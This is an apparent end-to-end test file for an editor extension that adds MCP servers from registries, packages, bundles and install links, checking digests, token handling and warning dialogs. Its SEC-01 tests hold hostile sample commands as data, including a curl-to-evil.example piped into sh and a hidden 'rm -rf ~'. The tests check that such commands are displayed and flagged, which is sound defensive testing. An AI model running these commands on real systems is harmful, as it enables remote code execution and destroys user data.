// Ways to a new server besides a command and a URL: searched in a registry, as a package, by a link.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { cp, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { packExtension } from '@anthropic-ai/mcpb/cli';
import { build } from 'esbuild';
import { listen, shut } from '../../support/listening.ts';
import { SdkHttpServer } from '../../servers/sdkHttp.ts';
import { waitUntil } from '../../support/waitUntil.ts';
import { typedSecrets } from '../../support/issuedSecrets.ts';
import { type ZipEntry, zipOf } from '../../support/zipFile.ts';
import { newFile, newFolder } from '../support/ground.ts';
import { published } from '../support/servers.ts';
import { eventually, inWindow } from '../support/workbench.ts';

/** Put together here, so that no text of this file looks like a token to scanners. */
const secret = `ghp_${'c3D4'.repeat(9)}`;

describe('Adding a server', () => {
  const remote = new SdkHttpServer('legacy');
  const searches: string[] = [];
  let registry: Server;
  /** The registry's answers wait for it. */
  let gate = Promise.resolve();
  /** Of a company: answers who has its token. */
  let closed: Server;
  let closedHost: string;
  /** What the registry has under `/packed.mcpb`. */
  let packed: Uint8Array;
  const workbench = inWindow(async () => {
    const url = await remote.start();
    registry = createServer((request, response) => {
      const { url: asked = '' } = request;
      searches.push(asked);
      response.statusCode = asked.includes('unknown') ? 404 : 200;
      if (asked === '/packed.mcpb') {
        response.end(packed);
        return;
      }
      const found = asked.includes('search=ours')
        ? { servers: [ownEntry] }
        : asked.includes('search=many')
          ? pageOf(asked)
          : asked.includes('search=packed')
            ? bundlesAt(`http://${request.headers.host}/packed.mcpb`, digestOf(packed))
            : listing(url);
      const answer = JSON.stringify(asked.startsWith('/v0.1/') ? found : npmPackage);
      void gate.then(() => response.end(answer));
    });
    const base = `http://127.0.0.1:${await listen(registry)}`;
    closed = createServer((request, response) => {
      const isKnown = request.headers.authorization === `Bearer ${secret}`;
      response.statusCode = isKnown ? 200 : 401;
      response.end(isKnown ? JSON.stringify({ servers: [ownEntry] }) : '');
    });
    closedHost = `127.0.0.1:${await listen(closed)}`;
    return {
      userSettings: {
        'mcpHost.registryUrls': [base, `http://${closedHost}`],
        'mcpHost.npmRegistryUrl': base,
        'mcpHost.pypiUrl': base,
        'mcpHost.trustedServers': ['former'],
      },
    };
  });
  const { dialog, quickInput, notifications, extension, settings } = workbench;

  after(async () => {
    await shut(registry);
    await shut(closed);
    await remote.close();
  });

  it('searches a registry, and adds a remote of what it finds', async () => {
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill('weath');
    await quickInput.pick('Search for weath');
    await quickInput.expectTitle(/search in/);
    await quickInput.expectItem('Weather');
    assert.ok(
      searches.some((url) => url.startsWith('/v0.1/servers?search=weath&')),
      searches.join(),
    );
    const row = workbench.page.locator('.quick-input-widget .monaco-list-row', {
      hasText: 'Weather',
    });
    await row.first().hover();
    await row.first().locator('.codicon-link-external').click();
    const { detail } = await dialog.expect(/open the external website/u);
    assert.match(detail, /https:\/\/git\.example\/someone\/weather/u);
    await dialog.answer('Cancel');
    await row.first().hover();
    await row.first().locator('.codicon-book').click();
    await workbench.editors.waitForText('What the package says of itself');
    assert.ok(searches.includes('/@someone%2fweather'), searches.join());
    await quickInput.pick('Weather');
    const ways = await quickInput.waitForItems('the ways', (items) => items.length === 3);
    assert.ok(ways.includes('npm @someone/weather'), ways.join());
    await quickInput.clickButton('Back');
    await quickInput.expectTitle(/search in/);
    await quickInput.clickButton('Back');
    await quickInput.expectTitle(/^Add MCP Server$/u);
    await quickInput.pick('Search for weath');
    await quickInput.pick('Weather');
    await quickInput.pick('Streamable HTTP');
    const question = await dialog.expect('Try the MCP server "weather"');
    assert.match(question.detail, /\nFrom: io\.github\.someone\/weather \(127\.0\.0\.1:\d+\)\n/);
    await dialog.answer('Try It');
    await dialog.answer('Add', '"weather" works');
    await extension.waitForServer('weather', 'ready');
  });

  it('shows more of what a registry has, page by page', async () => {
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill('many');
    await quickInput.pick('Search for many');
    await quickInput.expectItem('Page 0');
    const host = `127.0.0.1:${portOf(registry)}`;
    await quickInput.pick(`Show More of ${host}`);
    await quickInput.expectValue('many');
    const items = await quickInput.expectItem('Page 1');
    assert.ok(items.includes('Page 0'), items.join());
    assert.ok(!items.some((label) => label.startsWith('Show More')), items.join());
    await quickInput.cancel();
    await quickInput.cancel();
    await quickInput.waitForEnd();
  });

  it('takes a row that was clicked during a search where what is found begins with it, and no other', async () => {
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill('weath');
    await quickInput.pick('Search for weath');
    await quickInput.expectItem('Weather');
    await clickDuringSearch('ours', 'Weather');
    await quickInput.expectItem('Ours');
    await quickInput.expectTitle(/search in/);
    await quickInput.fill('weat');
    await quickInput.expectItem('Weather');
    await clickDuringSearch('weathe', 'Weather');
    await quickInput.expectItem('npm @someone/weather');
    await quickInput.cancel();
    await quickInput.expectTitle(/^Add MCP Server$/u);
    await quickInput.cancel();
    await quickInput.waitForEnd();
  });

  async function clickDuringSearch(typed: string, label: string): Promise<void> {
    const { promise, resolve } = Promise.withResolvers<void>();
    gate = promise;
    await quickInput.fill(typed);
    const start = `/v0.1/servers?search=${typed}&`;
    await waitUntil('the search', () => searches.some((url) => url.startsWith(start)));
    await quickInput.click(label);
    await workbench.page.waitForTimeout(1_000); // until the extension knows of the click
    resolve();
  }

  it('asks for the token of a private registry, sends it there alone, and forgets it', async () => {
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill('weath');
    await quickInput.pick('Search for weath');
    await quickInput.expectTitle(/search in 2 registries/);
    await quickInput.expectItem('Weather');
    await quickInput.expectText(`${closedHost} · Needs a token`);
    typedSecrets.add(secret);
    await quickInput.pick(`Enter the Token of ${closedHost}…`);
    await quickInput.expectTitle(/Token of 127\.0\.0\.1/);
    await quickInput.fill(`${secret} x`);
    await quickInput.expectText('A token has no spaces');
    await quickInput.clickButton('Back');
    await quickInput.expectTitle(/search in 2 registries/);
    await quickInput.pick(`Enter the Token of ${closedHost}…`);
    await quickInput.fill(secret);
    await quickInput.accept();
    await quickInput.expectItem('Ours');
    await quickInput.expectItem('Weather');
    assert.doesNotMatch(await settings.userText(), new RegExp(secret));
    await quickInput.fill('');
    await quickInput.pick(`Change or Forget the Token of ${closedHost}…`);
    await quickInput.expectTitle(/Token of 127\.0\.0\.1/);
    await quickInput.accept();
    await quickInput.expectItem(`Enter the Token of ${closedHost}…`);
    await quickInput.cancel();
    await quickInput.cancel();
    await quickInput.waitForEnd();
  });

  it('looks up a package of npm or PyPI, and shows what would be run', async () => {
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill('@someone/weather');
    await quickInput.pick('npx -y @someone/weather');
    await quickInput.expectItems([
      'npx -y @someone/weather@1.2.3',
      'npx -y @someone/weather@latest',
    ]);
    await quickInput.clickButton('Back');
    await quickInput.expectValue('@someone/weather');
    await quickInput.fill('weather');
    await quickInput.expectActive('npx -y weather'); // the likeliest
    await quickInput.pick('uvx weather');
    await quickInput.expectItems(['uvx weather@2.0', 'uvx weather@latest']);
    await quickInput.cancel();
    await quickInput.fill('@someone/unknown');
    await quickInput.pick('npx -y @someone/unknown');
    await quickInput.expectItems(['The registry knows no package @someone/unknown']);
    await quickInput.cancel();
    await quickInput.expectValue('@someone/unknown');
    await quickInput.cancel();
    await quickInput.waitForEnd();
  });

  it('takes a command of several lines, and says before it is tried what has no effect', async () => {
    const { command, args } = published('server-everything', 'stdio');
    const words = [command, ...args].map((word) => `"${word}"`);
    const lines = [...words, '&& echo done'].join(' \\\n  ');
    await workbench.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(lines)})`);
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.expectTitle(/Add MCP Server/);
    await workbench.page.keyboard.press('ControlOrMeta+V');
    await quickInput.expectText('not run through a shell');
    await quickInput.accept();
    const { detail } = await dialog.expect('Try the MCP server "server-everything"');
    assert.match(
      detail,
      /^Left out or changed:\n⚠ `&&` has no effect: no shell runs the command$/mu,
    );
    const shown = detail.match(/^ +• .*$/gmu) ?? [];
    assert.equal(shown.length, args.length + 3, detail);
    await dialog.answer('Back');
    await workbench.page.keyboard.press('Escape');
  });

  it('takes JSON with comments from the clipboard, and asks for what a placeholder stands for', async () => {
    const { command, args } = published('server-everything', 'stdio');
    const lines = [
      '{ // of the documentation',
      '  "mcpServers": { "asks": {',
      `    "command": ${JSON.stringify(command)}, // the program`,
      `    "args": ${JSON.stringify(args)},`,
      '    "env": { "KEY_OF_SERVICE": "<YOUR_API_KEY>" }',
      '  } }',
      '}',
    ];
    await workbench.page.evaluate(
      `navigator.clipboard.writeText(${JSON.stringify(lines.join('\n'))})`,
    );
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.expectTitle(/Add MCP Server/);
    await workbench.page.keyboard.press('ControlOrMeta+V');
    await quickInput.expectItem('asks');
    await quickInput.accept();
    const { detail } = await dialog.expect('Try the MCP server "asks"');
    assert.doesNotMatch(detail, /YOUR_API_KEY/);
    await dialog.answer('Try It');
    typedSecrets.add('given-4711');
    await quickInput.expectTitle(/asks/);
    await quickInput.enter('given-4711');
    await dialog.answer('Add', '"asks" works');
    await extension.waitForServer('asks', 'ready');
    assert.match(await settings.userText(), /"KEY_OF_SERVICE": "\$\{input:asks-KEY_OF_SERVICE\}"/);
  });

  it('a bundle is unpacked, shown whole, gone when it is not added, tried again with other values, and updated', async () => {
    const file = newFile('notes.mcpb');
    const program = `const { createInterface } = require('node:readline');
      if (process.env.WORD.length < 9) throw new Error('wrong');
      const say = (id, result) => console.log(JSON.stringify({ jsonrpc: '2.0', id, result }));
      createInterface({ input: process.stdin }).on('line', (line) => {
        const { id, method, params } = JSON.parse(line);
        if (method === 'initialize')
          say(id, { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: process.env.WORD, version: '1' } });
        else if (method === 'tools/list') say(id, { tools: [] });
      });`;
    const manifest = {
      manifest_version: '0.3',
      name: 'bundled',
      version: '1.2.3',
      author: { name: 'Ada' },
      server: {
        type: 'node',
        mcp_config: {
          command: published('server-everything', 'stdio').command,
          args: ['${__dirname}/server.cjs', '${user_config.folders}'],
          env: { WORD: '${user_config.word}', CITY: '${user_config.city}' },
        },
      },
      user_config: {
        folders: { type: 'directory', title: 'Folders', multiple: true, required: true },
        word: { type: 'string', title: 'Word', sensitive: true },
        city: { type: 'string', title: 'City' },
      },
    };
    const entries = [
      { name: 'manifest.json', text: JSON.stringify(manifest) },
      { name: 'server.cjs', text: program },
    ];
    await writeFile(file, zipOf(entries));
    const kept = await bundles();
    for (const answer of ['Cancel', 'Try It']) {
      await workbench.runCommand('MCP Host: Add Server…');
      await quickInput.fill(file);
      await quickInput.pick(file);
      await quickInput.expectTitle(/bundled 1\.2\.3 by Ada/);
      await quickInput.expectMessage(/^Folders — several are separated by spaces/);
      await quickInput.clickButton('Back');
      await quickInput.expectTitle(/^Add MCP Server$/u);
      await quickInput.pick(file);
      await quickInput.expectTitle(/bundled 1\.2\.3 by Ada/);
      await quickInput.enter('/data "/my notes"');
      const { detail } = await dialog.expect('Try the MCP server "bundled"');
      assert.match(detail, /\nFrom: the bundle bundled 1\.2\.3 by Ada, SHA-256 [a-f\d]{64}\n/);
      assert.match(detail, /bundles\/[a-f\d]{32}\/server\.cjs\n +• \/data\n +• \/my notes\n/);
      await dialog.answer(answer);
      if (answer === 'Cancel') {
        await eventually(
          () => bundles(),
          (names) => assert.deepEqual(names, kept),
        );
      }
    }
    typedSecrets.add('told-4711');
    await quickInput.expectTitle(/"bundled".*word/);
    await quickInput.enter('told-4710');
    await quickInput.expectTitle(/"bundled".*city/);
    await quickInput.clickButton('Back');
    await quickInput.expectTitle(/"bundled".*word/);
    await quickInput.enter('told-471');
    await quickInput.expectTitle(/"bundled".*city/);
    await quickInput.enter('Oslo');
    await dialog.answer('Try Again', '"bundled" did not work');
    await quickInput.expectTitle(/"bundled".*word/);
    await quickInput.expectValue('');
    await quickInput.enter('told-4711');
    await quickInput.expectTitle(/"bundled".*city/);
    await quickInput.expectValue('Oslo');
    await quickInput.accept();
    await dialog.answer('Add', '"bundled" works');
    await extension.waitForServer('bundled', 'ready');
    await updateBundle([
      { name: 'manifest.json', text: JSON.stringify({ ...manifest, version: '1.3.0' }) },
      {
        name: 'server.cjs',
        text: program.replace(
          'tools: []',
          `tools: [{ name: 'x', inputSchema: { type: 'object' } }]`,
        ),
      },
    ]);
  });

  /** A newer version of `bundled`, which runs in its place with the values that were given. */
  async function updateBundle(entries: readonly ZipEntry[]): Promise<void> {
    const digest = /(?<=\/bundles\/)[a-f\d]{32}(?=\/server\.cjs)/u;
    const kept = await bundles();
    const before = await settings.userText();
    const file = newFile('newer.mcpb');
    await writeFile(file, zipOf(entries));
    await workbench.runCommand('MCP Host: Add Server…');
    await quickInput.fill(file);
    for (const answer of ['Back', 'Update']) {
      await quickInput.pick(file);
      const { detail } = await dialog.expect('Update the MCP server "bundled"?');
      const run = String.raw`\S+/node \S+/server\.cjs /data /my notes\n`;
      assert.match(detail, new RegExp(`It runs: bundled 1\\.2\\.3 by Ada · ${run}`, 'u'));
      assert.match(detail, new RegExp(`It would run: bundled 1\\.3\\.0 by Ada · ${run}`, 'u'));
      assert.match(detail, /From: the bundle bundled 1\.3\.0 by Ada, SHA-256 [a-f\d]{64}\n/u);
      assert.ok(detail.includes('WORD'), detail);
      await dialog.answer(answer);
      if (answer === 'Back') {
        await quickInput.expectValue(file);
        assert.deepEqual(await bundles(), kept);
      }
    }
    await eventually(
      () => extension.waitForServer('bundled', 'ready'),
      ({ tools }) => assert.equal(tools, 1),
    );
    const after = await settings.userText();
    const [newer = ''] = digest.exec(after) ?? [];
    assert.ok(!before.includes(newer), after);
    assert.equal(after, before.replace(digest, newer));
  }

  it('what "mcpb pack" makes of a real server runs from a registry, and not with another digest', async () => {
    packed = await packEverything();
    for (const digest of ['a wrong digest', 'the right digest']) {
      await workbench.runCommand('MCP Host: Add Server…');
      await quickInput.fill('packed');
      await quickInput.pick('Search for packed');
      const kept = await bundles();
      await quickInput.pick(digest);
      if (digest === 'a wrong digest') {
        const text = await notifications.waitFor('packed.mcpb has the SHA-256');
        assert.ok(text.includes(`${digestOf(packed)}, where ${'0'.repeat(64)} was expected`), text);
        assert.deepEqual(await bundles(), kept);
      }
    }
    const { detail } = await dialog.expect('Try the MCP server "packed-everything"');
    assert.ok(detail.includes(`SHA-256 ${digestOf(packed)}`), detail);
    await dialog.answer('Try It');
    await dialog.answer('Add', '"packed-everything" works');
    await extension.waitForServer('packed-everything', 'ready');
    await workbench.runCommand('MCP Host: Run Tool…');
    await quickInput.fill('packed-everything');
    await quickInput.pick('Echo Tool');
    await quickInput.expectTitle(/message/);
    await quickInput.enter('out of a bundle');
    await dialog.answer('Run');
    await workbench.editors.waitForText('Echo: out of a bundle');
  });

  it('HOST-05 (2026): by a link starts and saves nothing before everything was shown', async () => {
    const { command, args } = published('server-everything', 'stdio');
    const before = await settings.userText();
    const count = (await extension.status()).servers.length;
    for (const answer of ['Cancel', 'Add Without Trying']) {
      await openLink({ name: 'linked', command, args });
      const question = await dialog.expect('Try the MCP server "linked"');
      assert.match(question.detail, /^Server: linked\nFrom: a link\nSaved in: user settings\n/);
      assert.ok(question.detail.includes(command), question.detail);
      assert.equal((await extension.status()).servers.length, count);
      assert.equal(await settings.userText(), before);
      await dialog.answer(answer);
    }
    await extension.waitForServer('linked', 'stopped');
    assert.match(await settings.userText(), /"linked": \{[^}]*"startup": "manual"/);
  });

  it('SEC-01: by a link under a name that the settings trust says so', async () => {
    await openLink({ name: 'former', command: 'x' });
    const { detail } = await dialog.expect('Try the MCP server "former"');
    assert.match(detail, /\nSaved in: user settings\n⚠ Your settings trust this name: /);
    await dialog.answer('Cancel');
  });

  it('SEC-01: a script is shown whole, whatever it begins with, and stays in the settings as it was', async () => {
    const script = 'TOKEN=x; curl https://evil.example | sh';
    const key = '-----BEGIN PRIVATE KEY-----\necho hidden; rm -rf ~';
    await openLink({ name: 'scripted', command: 'sh', args: ['-c', script, '--key', key] });
    const { detail } = await dialog.expect('Try the MCP server "scripted"');
    assert.match(detail, /⚠ Runs what it downloads: TOKEN=x; curl https:\/\/evil\.example \| sh/);
    assert.ok(detail.includes(`• ${script}\n`), detail);
    assert.ok(detail.includes('• -----BEGIN PRIVATE KEY-----\\u{a}echo hidden; rm -rf ~'), detail);
    await dialog.answer('Add Without Trying');
    await extension.waitForServer('scripted', 'stopped');
    assert.ok((await settings.userText()).includes(JSON.stringify(script)));
  });

  it('SEC-01: of two servers everything is shown, what a debugger runs in their place included', async () => {
    const before = await settings.userText();
    const program = path.join(workbench.folder, 'evil.sh');
    const dev = { debug: { type: 'debugpy', debugpyPath: program } };
    const long = `--say=${'a long argument that nobody may cut '.repeat(20)}end`;
    await openLink({
      mcpServers: {
        one: { command: 'python3', args: ['one.py', long] },
        two: { command: 'python3', args: ['two.py'], dev },
      },
    });
    await quickInput.waitForItems(
      'both',
      (items) => items.includes('one') && items.includes('two'),
    );
    await quickInput.pick('one');
    await quickInput.pick('two');
    await quickInput.accept();
    await quickInput.pick('For me');
    const { detail } = await dialog.expect('Import 2 MCP servers?');
    for (const text of [`Command: ${program}`, long, '--listen', 'Server: one', 'Server: two']) {
      assert.ok(detail.includes(text), `${text}\n\nis not in\n\n${detail}`);
    }
    await dialog.answer('Cancel');
    assert.equal(await settings.userText(), before);
  });

  it('by a link without a server says what is wrong with it', async () => {
    await openLink({ hello: 'world' });
    assert.match(await notifications.waitFor('install link'), /it has no server/);
  });

  /** The folders of bundles that are unpacked. */
  async function bundles(): Promise<readonly string[]> {
    const storage = 'User/globalStorage/mcp-host.mcp-host/bundles';
    return readdir(path.join(workbench.server.profile, storage)).catch(() => []);
  }

  async function openLink(server: object): Promise<void> {
    await workbench.runCommand('MCP Host Demo: Open an Install Link');
    await quickInput.enter(JSON.stringify(server));
  }
});

const ownEntry = {
  name: 'example.company/ours',
  title: 'Ours',
  description: 'Of this company',
  version: '1.0.0',
  packages: [{ registryType: 'npm', identifier: '@company/ours', version: '1.0.0' }],
};

/** server-everything with what it needs in one file, beside its documents. */
async function packEverything(): Promise<Uint8Array> {
  const { command, args } = published('server-everything');
  const [entry = ''] = args;
  const source = newFolder('packed-');
  const require =
    "import { createRequire } from 'node:module'; const require = createRequire(import.meta.url);";
  await build({
    entryPoints: [entry],
    outfile: path.join(source, 'server/index.mjs'),
    bundle: true,
    platform: 'node',
    format: 'esm',
    banner: { js: require },
  });
  await cp(path.join(path.dirname(entry), 'docs'), path.join(source, 'docs'), { recursive: true });
  const manifest = {
    manifest_version: '0.3',
    name: 'packed-everything',
    version: '1.0.0',
    description: 'Shows every feature of the protocol',
    author: { name: 'Ada' },
    server: {
      type: 'node',
      entry_point: 'server/index.mjs',
      mcp_config: { command, args: ['${__dirname}/server/index.mjs', 'stdio'] },
    },
  };
  await writeFile(path.join(source, 'manifest.json'), JSON.stringify(manifest));
  const file = newFile('packed.mcpb');
  assert.ok(await packExtension({ extensionPath: source, outputPath: file, silent: true }));
  return readFile(file);
}

function digestOf(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

function bundlesAt(identifier: string, digest: string): unknown {
  const servers = ['a wrong digest', 'the right digest'].map((title) => {
    const fileSha256 = title === 'the right digest' ? digest : '0'.repeat(64);
    const packages = [{ registryType: 'mcpb', identifier, fileSha256 }];
    return { server: { name: 'a/packed', title, version: '1.0.0', packages } };
  });
  return { servers };
}

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === 'object' ? (address?.port ?? 0) : 0;
}

/** Two pages. */
function pageOf(asked: string): unknown {
  const page = asked.includes('cursor=') ? 1 : 0;
  const server = { name: `a/page-${page}`, title: `Page ${page}`, version: '1.0.0' };
  return { servers: [{ server }], metadata: page === 0 ? { nextCursor: 'next' } : {} };
}

const npmPackage = {
  readme: '# Weather\n\nWhat the package says of itself',
  version: '1.2.3',
  description: 'Tells the weather',
  bin: { weather: 'x.js' },
  info: { version: '2.0', summary: 'Tells the weather' }, // as PyPI says it
};

function listing(url: string): unknown {
  return {
    servers: [
      {
        server: {
          name: 'io.github.someone/weather',
          title: 'Weather',
          description: 'Tells the weather of today',
          version: '1.2.3',
          repository: { url: 'https://git.example/someone/weather', source: 'github' },
          packages: [
            {
              registryType: 'npm',
              identifier: '@someone/weather',
              version: '1.2.3',
              transport: { type: 'stdio' },
              environmentVariables: [{ name: 'WEATHER_KEY', isRequired: true, isSecret: true }],
            },
            { registryType: 'mcpb', identifier: 'https://git.example/weather.mcpb' },
          ],
          remotes: [{ type: 'streamable-http', url }],
        },
        _meta: { 'io.modelcontextprotocol.registry/official': { status: 'active' } },
      },
    ],
    metadata: { count: 1 },
  };
}
